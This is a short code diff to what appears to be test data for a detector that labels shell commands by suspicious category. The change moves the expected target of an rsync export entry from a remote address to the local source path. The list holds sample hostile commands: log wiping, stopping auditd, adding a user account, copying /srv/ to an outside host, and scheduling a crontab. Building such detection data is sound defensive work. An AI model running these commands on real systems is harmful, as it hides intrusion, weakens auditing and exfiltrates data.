@@ -111,7 +111,7 @@ ACTS = [
     ("truncate -s 0 /var/log/secure", "log_clear", "/var/log/secure"),
     ("systemctl stop auditd", "security_weaken", "auditd"),
     ("net user helper Pw1 /add", "account_create", "helper"),
-    ("rsync -a /srv/ ops@203.0.113.5:/in/", "data_export", "203.0.113.5:/in/"),
+    ("rsync -a /srv/ ops@203.0.113.5:/in/", "data_export", "/srv/"),
     ("crontab /opt/jobs", "task_schedule", "crontab"),
 ]
 STAY = ["systemctl restart nginx", "logrotate /etc/logrotate.conf", "tar xzf a.tgz", "apt-get -y upgrade"]
